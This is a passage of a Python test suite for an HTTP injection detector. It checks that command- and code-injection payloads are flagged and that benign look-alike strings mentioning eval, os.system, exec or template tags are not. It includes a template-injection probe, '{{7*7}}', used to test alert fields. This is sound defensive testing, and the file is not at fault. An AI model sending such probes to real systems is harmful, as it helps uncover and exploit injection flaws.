    "the $_SERVER array", "data:image/png;base64,iVBORw0KGgo=", "f(x) 'a' (b)", "the new COM (port)",
    "see {1} (below)", "a <? b", "an IO popen call", "a process readme", "the subprocess module's call()",
    "java.lang is a package", "Class.forName(name) loads a class", "the Runtime class",
    "[%s] %s", "50% off [%d%%]", "user@{example}.com", "{{ a }} {{ b }}",
    "os.mkdir('/tmp/x')", "mkdir(\"/tmp/x\", 0755)", "max(a, b)", "count(items)", "use `ls`; then",
    "'foo' . 'bar'", "'sys' . 'admin'", "[system][0] is the first", "{{ user.name }}.pdf", "${user.getName()}",
    "x^2 + y^2", "the 'a' ^ 'b' operator", "$_ is Perl's default", "__init__ and __main__", "T(n) = O(n)",
    "<#assign name=\"x\">", "exec.Commander", "exec command (see docs)", "_${name}_",
    "see config.php.", "index.php", "Use eval()", "avoid eval() here", "$AAPL(2%)", "x.php.bak",
    "$total (2) items", "a, $5 (net)", "max(a, b)", "while(x)", "<?xml version='1.0'?>", "printf(3)", "file(s)",
    "{*note*}", "the {!important!} part", "printf(\"%x(%d)\", a, b)", "{{ price | times: qty }}", "#set($a = $b)",
    "print(x+1)", "@java is fun", "{% if user %}",
    "a@{b}[c]",
    "Hello %{name}, you have %{count} items", "print 2*3", "{{ print }}", "Buy 100*200 boxes and print",
    "{{ locals }}", "Hello!{name}", "{{ request.meta.title }}", '{{ constant("x") }}', "wow!{7} items",
    # near the shapes from afrog / xray / vulhub / blazehttp: a method named execute, os.path, a class named in prose,
    # a literal printed, escaped text, tags and hashtags
    "query.execute()", "stmt.execute().then(done)", "the 'execute' button", "os.path.join('a', 'b')",
    "the os.system call", "new Java features", "new java.util.Date", "the java.util.Scanner class", "print (42 copies)",
    "throw(err)", "printf(100*2)", "C:\\Users\\Bob{x}", "costs $\\5{net}", "<cfoutput>#name#</cfoutput>",
    "<% if x %>", "{.name.}", "the runphp option", "{dede:field name='title'/}", "#request for comments",
    "see #parameters. Then", "#session (2)", "I'd say '+{x}+'", "\\u0027hello\\u0027", "a '+' b {1+1}",
    "T(org) = 5", "<#assign x=RuntimeName>", "{{ include }}", "{{ script }}", "{{groovy}} is a macro",
    "{{ python_version }}{{/python}}",
    "eval the request (see below)", "an unsafe eval(x, 'safe')", "CreateObject(\"Excel.Application\")",
    "I think/know", "C:\\think\\notes/todo.txt", "think\\app",
    "<jsp-include>", "the jsp:include action", "What (really)?>", "<?xml version=\"1.0\"?>", "Why?>",
    "System.IO is a namespace", "the System.Diagnostics docs", "<%= evaluation %>", "execute the request",
]


@pytest.mark.parametrize(("family", "value"), [(f, v) for f, vs in COMMANDS.items() for v in vs])
def test_command_injection_detected(family: str, value: str) -> None:
    assert command_injection(value), (family, value)
    assert CMDI in rules(in_query(value)) and CMDI in rules(in_json(value))


@pytest.mark.parametrize("value", COMMAND_NEAR_MISSES)
def test_command_near_misses_not_flagged(value: str) -> None:
    assert command_injection(value) is None
    assert CMDI not in rules(in_query(value)) | rules(in_json(value))


@pytest.mark.parametrize(("family", "value"), [(f, v) for f, vs in CODE_PAYLOADS.items() for v in vs])
def test_code_injection_detected(family: str, value: str) -> None:
    found = code_injection(value)
    assert found is not None and found[0] == family, (value, found)
    assert CODE in rules(in_query(value)) and CODE in rules(in_json(value))


@pytest.mark.parametrize("value", CODE_NEAR_MISSES)
def test_code_near_misses_not_flagged(value: str) -> None:
    assert code_injection(value) is None
    assert CODE not in rules(in_query(value)) | rules(in_json(value))


def test_code_injection_alert_fields() -> None:
    det = next(d for d in inspect_http_request(in_query("{{7*7}}")) if d.rule == CODE)
    assert det.fields["http.code_family"] == "template" and "T1059" in det.mitre and det.severity.name == "CRITICAL"


def test_query_keys_named_like_commands_stay_on_the_fast_path() -> None:
    """`&type=`, `&id=`, JSON keys "id"/"type": the command gate reads split values, not raw delimiters."""
    for req in [HttpRequest("GET", "/a?x=1&type=2&id=3&dir=asc", headers=HEAD),
                HttpRequest("POST", "/api", headers=[*HEAD, ("Content-Type", "application/json")],
                            body=b'{"id": 1, "type": "x", "set": "y"}', content_length=["34"])]:
        assert not needs_values(req)
